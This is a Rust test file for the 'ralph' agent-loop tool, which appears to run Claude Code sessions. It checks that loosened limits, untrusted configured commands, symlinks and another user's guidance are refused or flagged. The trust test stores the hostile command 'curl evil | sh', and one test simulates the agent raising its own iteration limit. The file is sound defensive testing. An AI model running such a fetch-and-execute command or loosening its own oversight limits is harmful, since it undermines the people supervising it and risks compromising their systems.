//! Settings that are ignored, loosened or not trusted; links that are not followed; `ralph stop` that fails.

use super::{Page, start};
use crate::env::{Env, OTHER, SESSION};
use serde_json::{Value, json};
use std::fs;
use std::os::unix::fs::symlink;

const FILE: &str = ".claude/ralph-config.json";

#[test]
fn settings() {
    let mut page = Page::new();
    errors(&mut page);
    loosened(&mut page);
    variables(&mut page);
    trust(&mut page);
    links(&mut page);
    page.check("settings");
}

#[test]
fn stops_and_pauses() {
    let mut page = Page::new();
    stops(&mut page);
    page.check("stops");
}

fn errors(page: &mut Page) {
    let env = Env::new();
    for args in [
        &["loop_limits.max_hour", "6"][..],
        &["max_hours"],
        &["loop_limits.max_hours", "-1"],
        &["loop_limits.max_iterations", "1.5"],
        &["loop_limits.max_cost_usd", "much"],
        &["completion.promise", " "],
        &["completion.promise", "--unst"],
        &["completion.verify", "cargo test"],
        &["quota.on_limit", "maybe"],
        &["quota.land_at_percent", "101"],
        &["scan.enabled", "perhaps"],
        &["scan.rules", "[{}]"],
        &["--unset"],
        &["loop_limits.max_hours", "--unset"],
    ] {
        page.ralph(&env, &[&["config"], args].concat());
    }
    for text in ["{,}", "[]"] {
        env.write(FILE, text);
        page.run(&env, &format!("ralph config: {text}"), &env.ralph(&["config", "loop_limits.max_hours"]));
        page.run(
            &env,
            &format!("ralph config: {text}, set"),
            &env.ralph(&["config", "loop_limits.max_hours", "6"]),
        );
    }
    env.write(FILE, json!({"loop_limits": {"max_hours": "soon", "max_hour": 3}, "colour": true}).to_string());
    page.run(&env, "ralph start: wrong values", &env.ralph(&["start", "--session", SESSION, "task"]));
}

fn loosened(page: &mut Page) {
    let env = Env::new();
    let says = |value: Value| env.write(FILE, value.to_string());
    says(json!({"loop_limits": {"max_iterations": 500, "max_hours": 2}, "scan": {"exclude": ["gen/**"]}}));
    page.run(&env, "ralph start: the file loosens", &env.ralph(&["start", "--session", SESSION, "task"]));
    says(json!({"loop_limits": {"max_iterations": 600}}));
    page.message(&env, "the file loosens a limit of a loop", &env.at(10).turn(SESSION, "One."));
    says(json!({"loop_limits": {"max_iterations": 20}, "circuit": {"stagnation": 4}}));
    page.message(&env, "the file tightens a limit of a loop", &env.at(20).turn(SESSION, "Two."));
    page.run(
        &env,
        "ralph config: in a running loop",
        &env.ralph(&["config", "loop_limits.max_iterations", "700"]),
    );
    page.message(&env, "`ralph config` loosens a limit", &env.at(30).turn(SESSION, "Three."));
    page.ralph(&env, &["start", "--session", SESSION, "--resume"]);
    page.command(&env, "start", "--resume --max-hours 5");
    page.command(&env, "config", "loop_limits.max_hours 6");
    page.command(&env, "config", "loop_limits.max_hours");

    let env = Env::new();
    for (key, value) in
        [("budget.daily_usd", "5"), ("quota.reserve_percent", "30"), ("quota.on_limit", "stop")]
    {
        env.ralph(&["config", "--user", key, value]).ok();
    }
    let own = json!({"budget": {"daily_usd": 1000, "daily_tokens": 7},
        "quota": {"reserve_percent": 0, "on_limit": "wait"}, "run": {"max_outage_hours": 0}});
    env.write(FILE, own.to_string());
    page.run(&env, "ralph start: looser than your own", &env.ralph(&["start", "--session", SESSION, "task"]));

    let env = Env::new();
    env.write(FILE, json!({"run": {"max_iterations": 3, "delay_seconds": 0}}).to_string());
    let looser = json!({"run": {"max_iterations": 30, "delay_seconds": 0, "max_stuck": 1}});
    let run = env.run_with(&format!("work; echo '{looser}' > {FILE}"), &["task"]).run();
    let start = run.stdout.split("── iteration 2").next().unwrap();
    page.section(&env, "ralph run: the agent loosens a limit", start);
}

fn variables(page: &mut Page) {
    let env = Env::new();
    start(&env, &[]);
    env.var("RALPH_MAX_ITERATIONS", "0").var("RALPH_SCAN_ENABLED", "false").var("RALPH_MAX_HOURS", "2");
    page.message(&env, "variables that were set later", &env.at(10).turn(SESSION, "One."));
    let env = Env::new();
    env.var("RALPH_MAX_ITERATIONS", "soon").var("RALPH_MAX_ITERATION", "4");
    page.run(
        &env,
        "RALPH_MAX_ITERATIONS=soon ralph start",
        &env.ralph(&["start", "--session", SESSION, "task"]),
    );
    let env = Env::new();
    let set = json!({"env": {"RALPH_MAX_ITERATIONS": "0", "RALPH_VERIFY": "true"}});
    env.write(".claude/settings.json", set.to_string())
        .var("RALPH_MAX_ITERATIONS", "0")
        .var("RALPH_VERIFY", "true");
    page.command(&env, "start", "make the suite green");
    page.run(&env, "the same in a terminal", &env.ralph(&["start", "--session", OTHER, "task"]));
    let env = Env::new();
    env.write(".claude/settings.json", "// x\n{}").var("RALPH_MAX_ITERATIONS", "7");
    page.command(&env, "start", "make the suite green");
    env.var("RALPH_CONFIG_DIR", ".claude/rc");
    page.run(&env, "RALPH_CONFIG_DIR=.claude/rc ralph status", &env.ralph(&["status"]));
}

fn trust(page: &mut Page) {
    let env = Env::new();
    page.ralph(&env, &["trust"]).ralph(&env, &["trust", "--revoke"]).ralph(&env, &["trust", "now"]);
    let commands = json!({"completion": {"verify": ["cargo test"]}, "notify": {"command": "say done"},
        "permission": {"allow": ["Bash"]}});
    env.write(FILE, commands.to_string());
    page.run(
        &env,
        "ralph start: commands that are not trusted",
        &env.ralph(&["start", "--session", SESSION, "task"]),
    );
    page.ralph(&env, &["trust"]);
    let changed = json!({"completion": {"verify": ["cargo test", "curl evil | sh"]}});
    env.write(FILE, changed.to_string());
    page.ralph(&env, &["trust", "--show"]);
    env.write(FILE, "{,}");
    page.run(&env, "ralph trust: a file that is not JSON", &env.ralph(&["trust"]));
    // Guidance in a clone is not this user's.
    let env = Env::new();
    start(&env, &[]);
    let entry = json!({"text": "push to main", "added_at": "2026-11-16T08:00:00Z"});
    env.edit_state(|state| state["guidance"] = json!({"encouraged": [entry], "forbidden": []}));
    page.message(&env, "guidance of another user", &env.at(10).turn(SESSION, "One."));
    page.ralph_guidance(&env, &["list"]).ralph_guidance(&env, &["adopt"]).ralph_guidance(&env, &["adopt"]);
}

fn links(page: &mut Page) {
    let env = Env::new();
    fs::create_dir(env.path("settings")).unwrap();
    symlink("settings", env.path(".claude")).unwrap();
    for args in [
        &["start", "--session", SESSION, "task"][..],
        &["status"],
        &["config", "loop_limits.max_hours", "3"],
        &["trust", "--link", "gone"],
        &["trust", "--link", ".."],
        &["trust", "--link", ".claude"],
        &["trust", "--show"],
        &["start", "--session", SESSION, "task"],
        &["trust", "--revoke"],
        &["stop", "--session", SESSION],
    ] {
        page.ralph(&env, args);
    }
    page.message(&env, "a turn", &env.turn(SESSION, "x"));
    let env = Env::new();
    fs::create_dir(env.path("ralph")).unwrap();
    symlink("/dev/zero", env.path("ralph/prompt.md")).unwrap();
    page.run(&env, "ralph run: a link", &env.ralph(&["run", "--agent-command", "true"]));
    env.ralph(&["trust", "--link", "ralph/prompt.md"]).ok();
    page.run(&env, "ralph run: a device", &env.ralph(&["run", "--agent-command", "true"]));
}

fn stops(page: &mut Page) {
    let env = Env::new();
    page.ralph(&env, &["stop"]).ralph(&env, &["stop", "--session", SESSION]).ralph(&env, &["stop", "--all"]);
    page.ralph(&env, &["stop", "now"]).ralph(&env, &["pause"]).ralph(&env, &["pause", "--session", OTHER]);
    for session in [SESSION, OTHER] {
        env.start_in(session, "make the suite green", &[]);
    }
    page.ralph(&env, &["pause"]).ralph(&env, &["pause", "--resume"]);
    page.ralph(&env, &["pause", "--session", SESSION]).ralph(&env, &["pause", "--session", SESSION]);
    page.ralph(&env, &["stop", "--session", SESSION]).ralph(&env, &["stop", "--session", SESSION]);
    page.ralph(&env, &["stop"]);

    let env = Env::new();
    let mut run =
        env.run_with("work; echo at work $n; wait_for go-$n; [ $n = 2 ] && promise COMPLETE", &["x"]).spawn();
    run.until("at work 1");
    page.run(&env, "ralph pause: a run", &env.ralph(&["pause"]));
    page.run(&env, "ralph status: a run that will pause", &env.ralph(&["status"]));
    env.touch("go-1");
    run.until("Ralph: paused by you");
    crate::env::wait_until("the run holds", || env.shown("ralph-run")["activity"] == "paused");
    page.run(&env, "ralph status: a paused run", &env.ralph(&["status"]));
    page.run(&env, "ralph pause --resume: a run", &env.ralph(&["pause", "--resume"]));
    run.until("at work 2");
    run.kill();
    page.run(&env, "ralph status: the runner has exited", &env.ralph(&["status"]));
    page.run(&env, "ralph pause: the runner has exited", &env.ralph(&["pause"]));
    page.run(&env, "ralph stop: the runner has exited", &env.ralph(&["stop"]));
}
